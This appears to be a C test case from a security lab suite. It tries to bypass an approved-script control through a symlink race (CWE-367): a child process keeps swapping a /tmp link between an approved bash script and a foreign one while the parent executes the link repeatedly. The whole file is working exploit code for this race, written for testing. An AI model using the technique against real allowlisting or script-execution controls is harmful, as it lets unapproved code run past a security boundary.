// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Gives bash an approved script by a link that is turned to a foreign one between execve and
 * the moment when bash opens it.
 * Source: CWE-367; the old race of setuid scripts, execve(2). Control: foreign code ran.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "attack.h"
#include "session.h"

#define LINK "/tmp/lab-swapped-script"

enum { TRIES = 40 };

static _Noreturn void swap(const char *approved)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		unlink(LINK ".new");
		if (symlink("/tmp/lab-swapped.bash", LINK ".new") || rename(LINK ".new", LINK) ||
		    symlink(approved, LINK ".new") || rename(LINK ".new", LINK))
			_exit(1);
	}
}

void attack(void)
{
	const char *approved = lab_path("scripts/bash");
	pid_t child;

	drop_text(FOREIGN_SHELL, "/tmp/lab-swapped.bash");
	unlink(LINK);
	if (symlink(approved, LINK) || (child = fork()) < 0)
		broken("a link");
	if (child == 0)
		swap(approved);
	for (int i = 0; i < TRIES; i++)
		if (runs(&(struct start){ .path = LINK, .argv = { "script" } }, FOREIGN_TEXT) ||
		    runs(&(struct start){ .path = BASH, .argv = { "bash", LINK } }, FOREIGN_TEXT)) {
			kill(child, SIGKILL);
			effect();
		}
	kill(child, SIGKILL);
	no_effect(errno);
}
